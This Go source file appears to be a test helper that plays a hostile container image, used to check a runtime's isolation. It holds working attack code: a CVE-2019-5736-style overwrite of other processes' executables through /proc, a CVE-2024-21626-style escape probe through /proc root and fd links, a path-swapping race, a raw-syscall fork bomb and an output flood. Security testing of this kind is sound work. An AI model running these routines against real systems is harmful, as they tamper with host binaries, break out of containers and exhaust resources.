// Command attacker is what a hostile image runs in the tests: it fights for its attack as fast as it can until it is killed.
//
//	attacker swap A B [C D...]   exchanges two names again and again: a path is never twice the same thing
//	attacker exe MARK            tries to write through every /proc/<pid>/exe but its own; "written" on standard output for each success
//	attacker fds                 tries to leave through every /proc/<pid>/root, cwd and fd; "out" for each that leads to another root
//	attacker fork                a fork bomb
//	attacker ids                 says who it is and what it may
//	attacker flood               writes to standard output
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		os.Exit(2)
	}
	switch args := os.Args[2:]; os.Args[1] {
	case "swap":
		fmt.Println("ready")
		for {
			for i := 0; i+1 < len(args); i += 2 {
				_ = unix.Renameat2(unix.AT_FDCWD, args[i], unix.AT_FDCWD, args[i+1], unix.RENAME_EXCHANGE) // lost races are part of it
			}
		}
	case "exe":
		fmt.Println("ready")
		each(func(pid string) { overwrite(pid, args[0]) })
	case "fds":
		fmt.Println("ready")
		each(leave)
	case "fork":
		fmt.Println("ready")
		bomb()
	case "ids":
		b, err := os.ReadFile("/proc/self/status")
		if err != nil {
			panic(err)
		}
		for line := range bytes.Lines(b) {
			if bytes.HasPrefix(line, []byte("Uid:")) || bytes.HasPrefix(line, []byte("CapEff:")) {
				os.Stdout.Write(line)
			}
		}
		return
	case "flood":
		line := bytes.Repeat([]byte("a flood of output that nobody reads \x1b[31m\n"), 1000)
		for {
			if _, err := os.Stdout.Write(line); err != nil {
				os.Exit(1)
			}
		}
	}
	os.Exit(2)
}

// bomb forks and forks, with system calls alone: Go's runtime would not survive the limit, where it gets no further thread.
func bomb() {
	runtime.LockOSThread()
	pause := &unix.Timespec{Nsec: 1e6}
	for {
		if _, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0); errno != 0 { // refused at the limit
			_, _, _ = unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(pause)), 0, 0)
		}
	}
}

// each calls try for every other process, again and again.
func each(try func(pid string)) {
	self, one := strconv.Itoa(os.Getpid()), "1"
	for {
		names, err := os.ReadDir("/proc")
		if err != nil {
			panic(err)
		}
		for _, n := range names {
			if _, err := strconv.Atoi(n.Name()); err == nil && n.Name() != self && n.Name() != one {
				try(n.Name())
			}
		}
	}
}

// overwrite is CVE-2019-5736: a handle of the program first, then the handle opened for writing, which works once nobody executes it.
func overwrite(pid, mark string) {
	fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		panic(err)
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return
	}
	if is, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d", fd)); err != nil || os.SameFile(own, is) {
		return
	}
	for range 200 {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		if err != nil {
			return
		}
		if name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); filepath.Base(name) == "busybox" { // the image's own
			unix.Close(w)
			return
		}
		_, err = unix.Write(w, []byte(mark))
		unix.Close(w)
		fmt.Println("written", pid, st.Size, err)
		return
	}
}

// leave is CVE-2024-21626 from another process: a folder of the host that a process of ours has open, or stands in.
func leave(pid string) {
	own, err := os.Stat("/")
	if err != nil {
		panic(err)
	}
	if root, err := os.Stat("/proc/" + pid + "/root/"); err == nil && !os.SameFile(own, root) {
		fmt.Println("out root", pid)
	}
	for fd := range 20 {
		if st, err := os.Stat(fmt.Sprintf("/proc/%s/fd/%d", pid, fd)); err == nil && st.IsDir() {
			fmt.Println("out fd", pid, fd)
		}
	}
}
